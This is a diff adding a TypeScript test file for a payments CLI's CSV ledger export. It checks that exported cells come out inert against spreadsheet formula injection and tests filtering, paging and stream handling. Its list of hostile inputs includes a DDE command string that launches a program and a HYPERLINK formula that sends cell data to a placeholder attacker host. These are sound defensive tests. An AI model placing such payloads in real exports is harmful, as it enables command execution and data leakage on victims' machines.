@@ -1,0 +1,236 @@
+import { PassThrough } from 'node:stream';
+import fc from 'fast-check';
+import { expect, test } from 'vitest';
+import { registerLedger } from '../../src/cli/ledger.ts';
+import { csvLine, textCell } from '../../src/support/csv.ts';
+import { number, openBench } from '../collection/bench.ts';
+import { runCommand } from '../support/command.ts';
+import { approve, prompted } from '../support/scenes.ts';
+import { openTill } from '../support/till.ts';
+import { readCsv, textOf } from './read-csv.ts';
+
+/** Runs `dialtill ledger export …` beside whoever writes the file. */
+function exported(file: string, ...args: string[]) {
+  return runCommand(['ledger', 'export', ...args], (program, { stdout, exit }) =>
+    registerLedger(program, { stdout, noColor: true, databaseFile: () => file, exit }),
+  );
+}
+
+/** The records of an export by the names in its head. */
+async function records(file: string, ...args: string[]): Promise<Record<string, string>[]> {
+  const { out, err, code } = await exported(file, '--csv', ...args);
+  expect([err, code]).toEqual(['', 0]);
+  const [head = [], ...rows] = readCsv(out);
+  return rows.map((row) => {
+    expect(row).toHaveLength(head.length);
+    return Object.fromEntries(head.map((name, at) => [name, row[at] ?? '']));
+  });
+}
+
+/** What spreadsheets read as formulas when it stands first, also behind blanks. */
+const formula = /^\s*[=+\-@＝＋－＠]|^[\t\r\n\0]/;
+
+const hostile = [
+  "=cmd|' /C calc'!A0",
+  '=HYPERLINK("http://evil.test?x="&A1,"ok")',
+  '+233244123456',
+  '-2+3',
+  '@SUM(1+1)',
+  '\t=1+1',
+  '\r=1+1',
+  '\n=1+1',
+  '\0=1+1',
+  '  =1+1',
+  '＝1+1',
+  '"=1+1"',
+  '","=1+1',
+  '"\r\n"=1+1',
+  "'=1+1",
+  "'",
+  '0244123456',
+  '00001',
+  '12345678901234567890',
+  '1E5',
+  '1-2',
+  '2026-03-01',
+  'a\0b',
+  'Ɛyɛ, "GHS" 5\r\nsecond line',
+  '\ud83d\ude00',
+  '',
+];
+
+test.each(hostile)('S53 csv-formula: %j is one cell, inert, and reads back the same', (text) => {
+  const [[cell = ''] = []] = readCsv(csvLine([textCell(text), textCell('next')]));
+  expect(cell).not.toMatch(formula);
+  expect(textOf(cell)).toBe(text);
+});
+
+test('S53 csv-formula: whatever texts stand in a line, they are inert and read back the same', () => {
+  const piece = fc.constantFrom(
+    '=',
+    '+',
+    '-',
+    '@',
+    "'",
+    '"',
+    '""',
+    ',',
+    '\r\n',
+    '\t',
+    '\0',
+    ' ',
+    '0',
+    '9',
+    'é',
+  );
+  const text = fc.oneof(
+    fc.string({ unit: 'grapheme', maxLength: 30 }),
+    fc.string({ unit: 'binary', maxLength: 30 }),
+    fc.array(piece, { maxLength: 8 }).map((pieces) => pieces.join('')),
+    fc.constantFrom(...hostile),
+  );
+  fc.assert(
+    fc.property(fc.array(text, { minLength: 1, maxLength: 8 }), (texts) => {
+      const [cells = [], ...more] = readCsv(csvLine(texts.map(textCell)));
+      expect(more).toEqual([]);
+      expect(cells.map(textOf)).toEqual(texts);
+      expect(cells.filter((cell) => formula.test(cell))).toEqual([]);
+    }),
+    { numRuns: 1_000 },
+  );
+});
+
+test('S53 csv-formula: no digit of a number is lost to a spreadsheet, and a plain one stays plain', () => {
+  expect(['0244123456', '007', '12345678901234567', '1e9', '1-2', '3/4'].map(textCell)).toEqual(
+    ['0244123456', '007', '12345678901234567', '1e9', '1-2', '3/4'].map((text) => `"'${text}"`),
+  );
+  expect(['233244123456', '0', 'INV-7'].map(textCell)).toEqual(['"233244123456"', '"0"', '"INV-7"']);
+});
+
+test('S53 csv-formula: every field that a stranger can fill comes out inert and as it was stored', async () => {
+  const { open, end, file, store } = openBench();
+  for (const [at, text] of hostile.entries()) {
+    const { row, done } = await open({ payer: number(at + 1), reference: `R${at}`, channel: text });
+    expect(done).toBe(true);
+    await end(row, { status: 'review', reason: text, review: text });
+    const args = [text, text, text, text, row.id];
+    await store.apply([
+      {
+        sql: 'UPDATE collection SET reference = ?, network = ?, amount_source = ?, paid_at = ? WHERE id = ?',
+        args,
+      },
+    ]);
+  }
+  const found = await records(file);
+  expect(found).toHaveLength(hostile.length);
+  const fields = ['reference', 'channel', 'network', 'reason', 'review', 'amount_source', 'paid_at'] as const;
+  for (const [at, one] of found.entries()) {
+    for (const field of fields) expect([field, textOf(one[field])]).toEqual([field, hostile[at]]);
+    expect(Object.values(one).filter((cell) => formula.test(cell))).toEqual([]);
+  }
+});
+
+test('an export tells amounts in pesewas and in cedis, times in UTC, and the payer without a plus', async () => {
+  const till = await openTill();
+  await prompted(till);
+  await approve(till);
+  const row = await till.untilStatus('0244123456', 'paid');
+  const [one, ...more] = await records(till.config.database.file);
+  expect(more).toEqual([]);
+  expect(one).toMatchObject({
+    collection: row.id,
+    merchant: 'demo-shop',
+    mode: 'test',
+    payer: '233244123456',
+    status: 'paid',
+    goods_pesewas: '2000',
+    goods_cedis: '20.00',
+    fee_pesewas: '20',
+    fee_cedis: '0.20',
+    amount_pesewas: '2020',
+    amount_cedis: '20.20',
+    net_cedis: '20.00',
+    opened_at: new Date(row.openedAt).toISOString(),
+    paid_at: row.paidAt,
+    late: '0',
+    review: '',
+  });
+  expect(textOf(one?.short_reference)).toBe(row.shortReference);
+});
+
+test('an export has the days, both included, and the state that were asked for, the first opened first', async () => {
+  const { open, end, clock, file } = openBench();
+  const ids: string[] = [];
+  for (let day = 0; day < 4; day++) {
+    const { row } = await open({ payer: number(day) });
+    if (day === 2) await end(row, { status: 'failed' });
+    ids.push(row.id);
+    // From 09:00 to the last millisecond of the next day.
+    await clock.advance(day === 0 ? 39 * 3_600_000 - 1 : 12 * 3_600_000);
+  }
+  const found = async (...args: string[]) => (await records(file, ...args)).map((one) => one.collection);
+  expect(await found()).toEqual(ids);
+  expect(await found('--from', '2026-03-07')).toEqual(ids.slice(1));
+  expect(await found('--to', '2026-03-07')).toEqual(ids.slice(0, 2));
+  expect(await found('--from', '2026-03-07', '--to', '2026-03-07')).toEqual(ids.slice(1, 2));
+  expect(await found('--status', 'failed')).toEqual(ids.slice(2, 3));
+  expect(await found('--status', 'paid')).toEqual([]);
+});
+
+test.each([
+  [['--csv', '--from', 'yesterday'], 1, '--from must be a day such as 2026-03-01'],
+  [['--csv', '--to', '2026-02-30'], 1, '--to must be a day such as 2026-03-01'],
+  [['--csv', '--from', '2026-03-02', '--to', '2026-03-01'], 1, '--to is a day before --from'],
+  [['--csv', '--status', 'gone'], 2, "option '--status <status>' argument 'gone' is invalid"],
+  [[], 2, "required option '--csv"],
+])('an export refuses %j', async (args, code, words) => {
+  const { file } = openBench();
+  const ran = await exported(file, ...args);
+  expect([ran.out, ran.code]).toEqual(['', code]);
+  expect(ran.err).toContain(words);
+});
+
+test('an export of many collections skips none at a page, and waits for a reader who is slow', async () => {
+  const { store, writesOf, file, clock } = openBench();
+  const rows = 1_201;
+  for (let at = 0; at < rows; at += 100) {
+    const some = Array.from({ length: Math.min(100, rows - at) }, (_, n) =>
+      writesOf({ payer: number(at + n) }),
+    );
+    expect(await store.apply(some.flat())).toBe(true);
+    await clock.advance(60_000);
+  }
+  const slow = new PassThrough({ highWaterMark: 1_024 });
+  let most = 0;
+  let text = '';
+  const running = runCommand(['ledger', 'export', '--csv'], (program, { exit }) =>
+    registerLedger(program, { stdout: slow, noColor: true, databaseFile: () => file, exit }),
+  );
+  for (let over = false; !over; ) {
+    most = Math.max(most, slow.writableLength + slow.readableLength);
+    text += slow.read() ?? '';
+    over = await Promise.race([
+      running.then(() => slow.readableLength === 0),
+      new Promise<false>((resolve) => setImmediate(resolve, false)),
+    ]);
+  }
+  const [, ...found] = readCsv(text);
+  expect(new Set(found.map(([id]) => id)).size).toBe(rows);
+  expect(found.map(([id]) => id)).toEqual(found.map(([id]) => id).toSorted());
+  // One page at a time, of about 150 kB, and what is read ahead of it.
+  expect(most).toBeLessThan(text.length);
+});
+
+test('an export ends quietly when its reader has read enough', async () => {
+  const { store, writesOf, file } = openBench();
+  for (let at = 0; at < 300; at++) await store.apply(writesOf({ payer: number(at) }));
+  const closed = new PassThrough();
+  closed.write = () => {
+    queueMicrotask(() => closed.destroy(Object.assign(new Error('write EPIPE'), { code: 'EPIPE' })));
+    return false;
+  };
+  const ran = await runCommand(['ledger', 'export', '--csv'], (program, { exit }) =>
+    registerLedger(program, { stdout: closed, noColor: true, databaseFile: () => file, exit }),
+  );
+  expect([ran.err, ran.code]).toEqual(['', 0]);
+});
